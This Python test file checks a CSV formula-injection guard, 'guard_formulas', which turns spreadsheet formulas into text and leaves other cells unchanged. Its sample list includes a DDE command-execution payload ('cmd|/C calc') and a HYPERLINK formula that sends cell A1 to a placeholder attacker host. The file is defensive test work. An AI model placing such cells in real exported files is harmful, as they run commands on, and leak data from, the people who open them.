"""entaku.formats.formulas: what a spreadsheet would compute becomes text; everything else stays, byte for byte."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from entaku.formats.formulas import guard_formulas

FORMULAS = [
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"開く")', "+81-3-1234-5678", "-2+3", "-A1", "@SUM(A1)",
    "\t=1", "\r=1", "\n=1", "\0=1", "＝1+1", "＋1+1", "－A1", "＠SUM(A1)", "=", "@", "-1,5x", "-1.2.3", "- 5", "--5", "-(5)",
    "-5 円", "-1e", "=a\n=b", "-,5", "-5%%", "=1,2", '="1"', "-5\n",
]  # fmt: skip
PLAIN = [
    "", "-5", "+3.2", "-0", "-1,234", "-1,234,567.8", "-.5", "+5.", "-1e5", "-1.5E-10", "-5%", "-", "－", "--", "+", "＋", "－－",
    "a=1", "1-2", "2026-04-01", "03-1234-5678", "a\n=b", "a,=b", 'a"=b', '"=b"', "△5", "▲3", "''=", "'=1", " =1", "–", "−5", "\u3000",
]  # fmt: skip


def write(*rows: list[str]) -> bytes:
    """As releases have it."""
    return "".join(",".join(map(quote, row)) + "\n" for row in rows).encode()


def quote(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"' if set(cell) & set('",\r\n') else cell


def read(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode(), newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
@pytest.mark.parametrize(
    "rows", [[["{}"]], [["a", "{}"], ["b", "c"]], [["a", "b"], ["{}", "{}"]], [["{}", "a"], ["-5", "x"]]]
)
def test_a_formula_becomes_text(cell: str, rows: list[list[str]]) -> None:
    given_rows = [[each.replace("{}", cell) for each in row] for row in rows]
    wanted = [[each.replace("{}", "'" + cell) for each in row] for row in rows]
    body, count = guard_formulas(write(*given_rows))
    assert read(body) == wanted
    assert count == sum(each == "{}" for row in rows for each in row)
    assert len(body) == len(write(*given_rows)) + count


@pytest.mark.parametrize("cell", PLAIN)
def test_everything_else_stays_as_it_is(cell: str) -> None:
    for rows in ([["n", cell], [cell, "x"]], [["=x", cell]]):
        body, _ = guard_formulas(write(*rows))
        assert read(body) == [["'=x" if each == "=x" else each for each in row] for row in rows]


@given(
    st.lists(
        st.lists(st.text("=+-@\t\r\n\0＝－, \"'a1.e%", max_size=6), min_size=2, max_size=3), min_size=1, max_size=3
    )
)
def test_any_table(rows: list[list[str]]) -> None:
    assert read(guard_formulas(write(*rows))[0]) == [["'" * is_formula(cell) + cell for cell in row] for row in rows]


def is_formula(cell: str) -> bool:
    """Judge a cell by its letters, one after another."""
    if not cell or cell[0] not in "=+-@\t\r\n\0＝－" or set(cell) <= set("+-－"):
        return False
    if cell[0] not in "+-":
        return True
    digits, dot, rest = cell[1:].removesuffix("%").partition(".")
    mantissa, e, exponent = (rest if dot else digits).partition("e")
    whole, fraction = (digits, mantissa) if dot else (mantissa, "")
    groups = whole.split(",")
    grouped = len(groups) == 1 or (1 <= len(groups[0]) <= 3 and all(len(each) == 3 for each in groups[1:]))
    power = exponent[1:] if exponent[:1] in ("+", "-") else exponent
    number = grouped and bool(whole + fraction) and all(each.isdigit() for each in (*groups, fraction, power) if each)
    return not (number and bool(power) == bool(e) and all(groups) == bool(whole))
